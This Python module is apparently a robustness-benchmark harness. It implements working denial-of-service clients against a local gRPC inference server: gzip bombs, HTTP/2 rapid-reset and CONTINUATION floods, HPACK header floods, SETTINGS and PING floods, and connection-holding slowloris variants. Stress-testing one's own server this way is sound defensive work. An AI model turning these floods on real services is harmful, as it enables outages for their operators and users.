"""What clients can do to the gRPC port of a server that means them well; `bench.hostile` measures what it does."""

from __future__ import annotations

import gzip
import random
import selectors
import socket
import struct
from collections.abc import Callable, Sequence
from contextlib import ExitStack, suppress

import h2.connection
import h2.exceptions
import h2.settings

from bench.hostile_server import TOKEN, AttackTarget

_PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
_INFER = "/inference.GRPCInferenceService/ModelInfer"
_UNFINISHED_BYTES = 50 << 20
#: Streams of a connection at once: fewer than a server takes.
_STREAMS = 900
#: Types of frames, and flags (RFC 9113, 6).
_DATA, _HEADERS, _RST_STREAM, _SETTINGS, _CONTINUATION = 0, 1, 3, 4, 9
_END_STREAM, _END_HEADERS = 1, 4
_AUTHORIZED = ("authorization", f"Bearer {TOKEN}")


def inflating_messages(target: AttackTarget, goes_on: Callable[[], bool]) -> None:
    """Send compressed messages of gRPC that would be a gigabyte."""
    zeros = gzip.compress(bytes(1 << 26))
    _call(target, goes_on, b"\1" + struct.pack(">I", 16 * len(zeros)) + 16 * zeros, ("grpc-encoding", "gzip"))


def inflating_nonsense(target: AttackTarget, goes_on: Callable[[], bool]) -> None:
    """Send compressed messages that are as large as may be, and no requests."""
    zeros = gzip.compress(bytes(60 << 20))
    _call(target, goes_on, b"\1" + struct.pack(">I", len(zeros)) + zeros, ("grpc-encoding", "gzip"))


def empty_fields(target: AttackTarget, goes_on: Callable[[], bool]) -> None:
    """Send messages of a million empty inputs."""
    message = b"\x0a\1m" + b"\x2a\x00" * (1 << 20)
    _call(target, goes_on, b"\0" + struct.pack(">I", len(message)) + message)


def unfinished_messages(target: AttackTarget, goes_on: Callable[[], bool]) -> None:
    """Send all of a large message but its end, on one connection after another."""
    body = struct.pack(">BI", 0, _UNFINISHED_BYTES + 1) + bytes(_UNFINISHED_BYTES)
    with ExitStack() as opened:
        while goes_on():
            with suppress(OSError, h2.exceptions.H2Error):
                http2, connection = _begin_call(target, ())
                opened.enter_context(connection)
                _send_body(http2, connection, body, goes_on)


def settings_frames(target: AttackTarget, goes_on: Callable[[], bool]) -> None:
    """Send SETTINGS of HTTP/2 that change the window again and again, with streams open."""
    settings = struct.pack(">HI", 4, 65_535) * 100
    frame = len(settings).to_bytes(3, "big") + b"\4\0\0\0\0\0" + settings
    _frames(target, goes_on, frame * 50)


def pings(target: AttackTarget, goes_on: Callable[[], bool]) -> None:
    """Send PING frames of HTTP/2."""
    _frames(target, goes_on, (b"\0\0\x08\6\0\0\0\0\0" + bytes(8)) * 2000)


def random_frames(target: AttackTarget, goes_on: Callable[[], bool]) -> None:
    """Send random frames of HTTP/2."""
    rng = random.Random(0)
    while goes_on():
        frames = b"".join(
            len(body).to_bytes(3, "big") + bytes([rng.randrange(12), rng.randrange(256)]) + bytes(4) + body
            for body in (rng.randbytes(rng.randrange(60)) for _ in range(50))
        )
        _frames(target, goes_on, frames, once=True)


def calls_without_token(target: AttackTarget, goes_on: Callable[[], bool]) -> None:
    """Make hundreds of calls at once that are refused for want of a token."""
    _burst(target, goes_on, _INFER, b"", ())


def health_checks(target: AttackTarget, goes_on: Callable[[], bool]) -> None:
    """Ask hundreds of times at once whether the server is healthy, which everybody may."""
    _burst(target, goes_on, "/grpc.health.v1.Health/Check", b"\0\0\0\0\0", ())


def rapid_resets(target: AttackTarget, goes_on: Callable[[], bool]) -> None:
    """Begin calls and reset them at once, thousands on a connection."""
    head = _head_block(_INFER, (_AUTHORIZED,))
    frames = b"".join(
        _frame(_HEADERS, _END_HEADERS, number, head) + _frame(_RST_STREAM, 0, number, struct.pack(">I", 8))
        for number in range(1, 20_000, 2)
    )
    while goes_on():
        _send_and_drop(target, goes_on, frames)


def endless_heads(target: AttackTarget, goes_on: Callable[[], bool]) -> None:
    """Send a head that never ends, in CONTINUATION frames."""
    begin = _frame(_HEADERS, 0, 1, _head_block(_INFER, ()))
    more = _frame(_CONTINUATION, 0, 1, _literal("a", "b" * 100) * 100) * 100
    while goes_on():
        _send_and_drop(target, goes_on, begin + more * 10)


def indexed_heads(target: AttackTarget, goes_on: Callable[[], bool]) -> None:
    """Send heads of half a million fields, of which each but the first is a byte, and close the connection."""
    while goes_on():
        with suppress(OSError), socket.create_connection(("127.0.0.1", target.grpc), timeout=5.0) as connection:
            connection.sendall(_many_fields(480_000))


def small_indexed_heads(target: AttackTarget, goes_on: Callable[[], bool]) -> None:
    """Send heads of 16,000 fields, a byte each, on one connection after another."""
    while goes_on():
        with suppress(OSError), socket.create_connection(("127.0.0.1", target.grpc), timeout=5.0) as connection:
            connection.sendall(_many_fields(16_000))


def indexed_heads_at_once(target: AttackTarget, goes_on: Callable[[], bool]) -> None:
    """Send heads of half a million fields on a hundred connections at once, which are opened anew when closed."""
    _hold(target, goes_on, 100, _many_fields(480_000))


def indexed_heads_held(target: AttackTarget, goes_on: Callable[[], bool]) -> None:
    """Begin heads of 16,000 fields on two hundred connections, and leave them as they are."""
    _hold(target, goes_on, 200, _many_fields(16_000))


def long_names(target: AttackTarget, goes_on: Callable[[], bool]) -> None:
    """Ask for models that there are not, by names of 200 KB."""
    name = b"m" * 200_000
    message = b"\x0a" + _varint(len(name)) + name
    _call_at_once(target, goes_on, 20, struct.pack(">BI", 0, len(message)) + message)


def empty_texts(target: AttackTarget, goes_on: Callable[[], bool]) -> None:
    """Send messages of a hundred thousand empty strings, on many streams at once."""
    contents = b"\x42\x00" * 110_000
    entry = b"\x0a\x06INPUT0" + b"\x2a" + _varint(len(contents)) + contents
    message = b"\x0a\x01m" + b"\x2a" + _varint(len(entry)) + entry
    _call_at_once(target, goes_on, 20, struct.pack(">BI", 0, len(message)) + message)


def reflection(target: AttackTarget, goes_on: Callable[[], bool]) -> None:
    """Have the server describe its files, hundreds of times on each of hundreds of streams."""
    symbol = b"inference.GRPCInferenceService"
    message = b"\x22" + _varint(len(symbol)) + symbol
    path = "/grpc.reflection.v1alpha.ServerReflection/ServerReflectionInfo"
    _call_at_once(target, goes_on, 200, 50 * (struct.pack(">BI", 0, len(message)) + message), path)


def statistics(target: AttackTarget, goes_on: Callable[[], bool]) -> None:
    """Ask for the statistics of all models hundreds of times at once."""
    path = "/inference.GRPCInferenceService/ModelStatistics"
    _burst(target, goes_on, path, b"\0\0\0\0\0", (_AUTHORIZED,))


def large_messages(target: AttackTarget, goes_on: Callable[[], bool]) -> None:
    """Send tensors of 40 MB, whole."""
    from bench.strange_clients import ClientRequest, Endpoint, grpc_message

    endpoint = Endpoint("grpc", "127.0.0.1", target.grpc, token=TOKEN)
    message = grpc_message(ClientRequest(endpoint, "reads", "m", 40_000_000, 1))
    _call(target, goes_on, b"\0" + struct.pack(">I", len(message)) + message)


def unread_answers(target: AttackTarget, goes_on: Callable[[], bool]) -> None:
    """Ask for large answers and let the server send none of them: the windows stay closed."""
    from bench.strange_clients import ClientRequest, Endpoint, grpc_message

    endpoint = Endpoint("grpc", "127.0.0.1", target.grpc, token=TOKEN)
    message = grpc_message(ClientRequest(endpoint, "reads", "m", 600_000, 1))
    body = struct.pack(">BI", 0, len(message)) + message
    with ExitStack() as opened:
        while goes_on():
            with suppress(OSError, h2.exceptions.H2Error):
                http2, connection = _begin_call(target, ())
                http2.update_settings({h2.settings.SettingCodes.INITIAL_WINDOW_SIZE: 0})
                opened.enter_context(connection)
                _send_body(http2, connection, body, goes_on)
                http2.end_stream(1)
                connection.sendall(http2.data_to_send())


def _burst(
    target: AttackTarget, goes_on: Callable[[], bool], path: str, body: bytes, headers: Sequence[tuple[str, str]]
) -> None:
    """Make hundreds of calls at once on one connection after another, each with a small body; drop what comes."""
    head = _head_block(path, headers)
    frames = b"".join(
        _frame(_HEADERS, _END_HEADERS, number, head) + _frame(_DATA, _END_STREAM, number, body)
        for number in range(1, 2 * _STREAMS, 2)
    )
    while goes_on():
        _send_and_drop(target, goes_on, frames)


def _call_at_once(
    target: AttackTarget, goes_on: Callable[[], bool], streams: int, message: bytes, path: str = _INFER
) -> None:
    """Make so many calls at once, of which each sends the last byte of ``message`` when all have sent the others."""
    while goes_on():
        with suppress(OSError, h2.exceptions.H2Error):
            http2, connection = _begin_call(target, (), path)
            with connection:
                for number in range(3, 2 * streams, 2):
                    http2.send_headers(number, _call_headers((), path))
                for number in range(1, 2 * streams, 2):
                    _send_body(http2, connection, message[:-1], goes_on, number)
                for number in range(1, 2 * streams, 2):
                    http2.send_data(number, message[-1:], end_stream=True)
                connection.sendall(http2.data_to_send())
                connection.settimeout(0.5)
                while goes_on() and connection.recv(1 << 18):
                    pass


def _send_and_drop(target: AttackTarget, goes_on: Callable[[], bool], frames: bytes) -> None:
    """Send frames on a connection of their own, whatever windows allow, and read until nothing comes any more."""
    with suppress(OSError), socket.create_connection(("127.0.0.1", target.grpc), timeout=5.0) as connection:
        wide = struct.pack(">HI", 4, (1 << 31) - 1)
        connection.sendall(_PREFACE + _frame(_SETTINGS, 0, 0, wide))
        connection.settimeout(0.2)
        left = memoryview(frames)
        while goes_on():
            if left:
                with suppress(TimeoutError):
                    left = left[connection.send(left[: 1 << 16]) :]
                connection.setblocking(False)
                with suppress(BlockingIOError):
                    connection.recv(1 << 18)
                connection.settimeout(0.2)
            elif not connection.recv(1 << 18):
                return


def _many_fields(count: int) -> bytes:
    """Return the beginning of a connection: a head of so many fields that does not end; settings are acknowledged by
    nobody.
    """
    # Kept in the table of HPACK, where it is the first, and named from there (RFC 7541, 6.2.1 and 6.1).
    kept, again = b"\x40\1a\1b", b"\xbe"
    begin = _frame(_HEADERS, 0, 1, _head_block(_INFER, ()) + kept)
    return (
        _PREFACE
        + _frame(_SETTINGS, 0, 0, b"")
        + begin
        + _frame(_CONTINUATION, 0, 1, again * 16_000) * (count // 16_000)
    )


def _hold(target: AttackTarget, goes_on: Callable[[], bool], count: int, data: bytes) -> None:
    """Send the same on so many connections at once, and hold them; another is opened for each that is closed."""
    left: dict[socket.socket, memoryview] = {}
    with selectors.DefaultSelector() as selector:

        def connect() -> None:
            connection = socket.socket()
            connection.setblocking(False)
            connection.connect_ex(("127.0.0.1", target.grpc))
            selector.register(connection, selectors.EVENT_READ | selectors.EVENT_WRITE)
            left[connection] = memoryview(data)

        for _ in range(count):
            connect()
        while goes_on():
            for key, events in selector.select(0.05):
                connection = key.fileobj
                assert isinstance(connection, socket.socket)
                try:
                    if events & selectors.EVENT_READ and not connection.recv(1 << 16):
                        raise ConnectionError
                    if events & selectors.EVENT_WRITE:
                        left[connection] = left[connection][connection.send(left[connection][: 1 << 16]) :]
                        if not left[connection]:
                            selector.modify(connection, selectors.EVENT_READ)
                except BlockingIOError:
                    pass
                except OSError:
                    selector.unregister(connection)
                    del left[connection]
                    connection.close()
                    connect()
        for connection in left:
            connection.close()


def _frame(kind: int, flags: int, stream: int, body: bytes) -> bytes:
    return len(body).to_bytes(3, "big") + bytes((kind, flags)) + stream.to_bytes(4, "big") + body


def _head_block(path: str, headers: Sequence[tuple[str, str]]) -> bytes:
    """Return the head of a call as HPACK, nothing indexed, so that each stream may have the same."""
    own = [(":method", "POST"), (":scheme", "http"), (":path", path), (":authority", "x"), ("te", "trailers")]
    own += [("content-type", "application/grpc"), *headers]
    return b"".join(_literal(name, value) for name, value in own)


def _literal(name: str, value: str) -> bytes:
    """Return a header as HPACK (RFC 7541, 6.2.2); texts of up to 126 bytes."""
    return b"\0" + bytes([len(name)]) + name.encode() + bytes([len(value)]) + value.encode()


def _varint(value: int) -> bytes:
    text = bytearray()
    while value > 0x7F:
        text.append(value & 0x7F | 0x80)
        value >>= 7
    return bytes([*text, value])


def _call(target: AttackTarget, goes_on: Callable[[], bool], message: bytes, *headers: tuple[str, str]) -> None:
    """Send a message of gRPC as it is, again and again."""
    while goes_on():
        with suppress(OSError, h2.exceptions.H2Error):
            http2, connection = _begin_call(target, headers)
            with connection:
                _send_body(http2, connection, message, goes_on)
                connection.recv(1 << 16)


def _begin_call(
    target: AttackTarget, headers: Sequence[tuple[str, str]], path: str = _INFER
) -> tuple[h2.connection.H2Connection, socket.socket]:
    """Connect, and send the head of a call."""
    connection = socket.create_connection(("127.0.0.1", target.grpc))
    connection.settimeout(10.0)
    http2 = h2.connection.H2Connection()
    http2.initiate_connection()
    http2.send_headers(1, _call_headers(headers, path))
    return http2, connection


def _call_headers(headers: Sequence[tuple[str, str]], path: str) -> list[tuple[str, str]]:
    own = [(":method", "POST"), (":path", path), (":scheme", "http"), (":authority", "x"), ("te", "trailers")]
    return [*own, ("content-type", "application/grpc"), _AUTHORIZED, *headers]


def _send_body(
    http2: h2.connection.H2Connection,
    connection: socket.socket,
    body: bytes,
    goes_on: Callable[[], bool],
    stream: int = 1,
) -> None:
    """Send as much as the other side takes, for as long as the attack goes on."""
    left = memoryview(body)
    while left and goes_on():
        window = min(http2.local_flow_control_window(stream), http2.max_outbound_frame_size, len(left))
        if window:
            http2.send_data(stream, bytes(left[:window]))
            left = left[window:]
        connection.sendall(http2.data_to_send())
        if not window:
            http2.receive_data(connection.recv(1 << 16))


def _frames(target: AttackTarget, goes_on: Callable[[], bool], frames: bytes, once: bool = False) -> None:
    """Send frames of HTTP/2 on a connection with a hundred open streams, and on another when it is closed."""
    head = b"\x83\x86\x44\x01/\x41\x01x"  # POST, http, "/", authority
    streams = b"".join(
        len(head).to_bytes(3, "big") + b"\1\4" + number.to_bytes(4, "big") + head for number in range(1, 200, 2)
    )
    while goes_on():
        with suppress(OSError), socket.create_connection(("127.0.0.1", target.grpc)) as connection:
            connection.settimeout(1.0)
            connection.sendall(_PREFACE + b"\0\0\0\4\0\0\0\0\0" + streams)
            connection.sendall(frames)
            while not once and goes_on():
                connection.sendall(frames)
                connection.setblocking(False)
                with suppress(BlockingIOError):
                    connection.recv(1 << 16)
                connection.settimeout(1.0)
        if once:
            return
